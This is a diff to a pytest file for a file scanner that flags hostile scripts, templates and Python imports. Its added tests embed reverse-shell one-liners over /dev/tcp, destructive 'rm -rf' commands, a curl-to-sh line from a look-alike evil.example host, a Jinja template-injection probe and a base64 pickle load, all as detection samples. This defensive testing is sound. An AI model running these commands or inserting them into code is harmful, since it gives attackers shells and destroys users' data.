@@ -35,6 +35,7 @@ def _scan(name: str, content: bytes, *beside: str) -> Verdict:
         ("tool/run.py", (*_INSTALLED, "tool/tests/data/a.pkl")),
         ("src/tool/run.py", ("pyproject.toml", "README.md")),
         ("src/tool/run.py", ("setup.cfg",)),
+        ("tool/run.py", (*_INSTALLED, "tool/config.json")),
         ("env/tool/run.py", ("pyproject.toml", *(f"env/{at}" for at in _INSTALLED), "model.bin")),
     ],
 )
@@ -48,7 +49,6 @@ def test_a_program_may_start_processes(name, beside):
         ("run.py", ()),
         ("run.py", ("model.safetensors",)),
         ("tool/run.py", (*_INSTALLED, "tool/weights.bin")),
-        ("tool/run.py", (*_INSTALLED, "tool/config.json")),
         ("src/tool/run.py", ("pyproject.toml", "model.safetensors")),
         ("src/tool/run.py", ("pyproject.toml", "checkpoints/config.json")),
         ("src/tool/run.py", ("pyproject.toml", "hubconf.py")),
@@ -135,3 +135,65 @@ def test_only_a_main_guard_keeps_code_from_running_on_import(condition, verdict)
 )
 def test_what_libraries_do_is_not_malicious(text):
     assert _scan("modeling_tool.py", text.encode()) in {Verdict.CLEAN, Verdict.SUSPICIOUS}
+
+
+_TESTS_A_PORT = b"timeout 1 bash -c '</dev/tcp/$HOST/$PORT' && sudo apt-get install -y socat\n"
+_CLEANS = b"rm -rf /var/lib/apt/lists/* ~/.cache/uv\n"
+_INSTALLS = b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"
+
+
+@each("content", [_TESTS_A_PORT, _CLEANS, _INSTALLS])
+@each("name", ["run.sh", "tool/run.sh"])
+def test_scripts_may_test_ports_clean_up_and_install_tools(name, content):
+    assert _scan(name, content, *_INSTALLED) is Verdict.CLEAN
+
+
+@each(
+    "content",
+    [
+        b"exec 5<>/dev/tcp/$H/$P; cat <&5 | while read l; do $l >&5; done\n",
+        b"sh -i >& /dev/tcp/$H/$P 0>&1\n",
+        b"cat </dev/tcp/files.example/99\n",
+        b"rm -rf ~\n",
+        b"rm -rf /usr/*\n",
+        b"curl -LsSf https://astral.sh.evil.example/i | sh\n",
+    ],
+)
+def test_hostile_scripts_are_hostile(content):
+    assert _scan("run.sh", content) is Verdict.MALICIOUS
+
+
+_INCLUDES = b"{% include 'base.html' %}{{ self.title() }}"
+_LEAVES = b"{{ x.__class__.__mro__ }}"
+
+
+@each(
+    ("name", "content", "verdict"),
+    [
+        ("tool/page.j2", _INCLUDES, Verdict.CLEAN),
+        ("page.html.j2", _INCLUDES, Verdict.CLEAN),
+        ("server.Dockerfile.jinja", b"{% include 'a' %}RUN bash -c 'a'", Verdict.CLEAN),
+        ("chat_template.jinja", _INCLUDES, Verdict.MALICIOUS),
+        ("page.html.j2", _LEAVES, Verdict.MALICIOUS),
+        ("tool/page.j2", _LEAVES, Verdict.MALICIOUS),
+    ],
+)
+def test_templates_of_programs_may_include_others(name, content, verdict):
+    assert _scan(name, content, *_INSTALLED) is verdict
+
+
+@each(
+    ("content", "verdict"),
+    [
+        (
+            b"import pickle, base64\ndef f(x):\n    return pickle.loads(base64.b64decode(x))\n",
+            "clean",
+        ),
+        (b"import pickle, base64\npickle.loads(base64.b64decode(X))\n", "malicious"),
+        (b"import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'a')\n", "malicious"),
+        (b"import urllib.request as u\nu.urlopen('https://files.example')\n", "suspicious"),
+        (b"import os\ndef f(d):\n    os.system(f'rm -rf {d}')\n", "suspicious"),
+    ],
+)
+def test_what_a_program_does_when_it_is_called_is_less_than_on_import(content, verdict):
+    assert _scan("tool/run.py", content, *_INSTALLED) is Verdict(verdict)
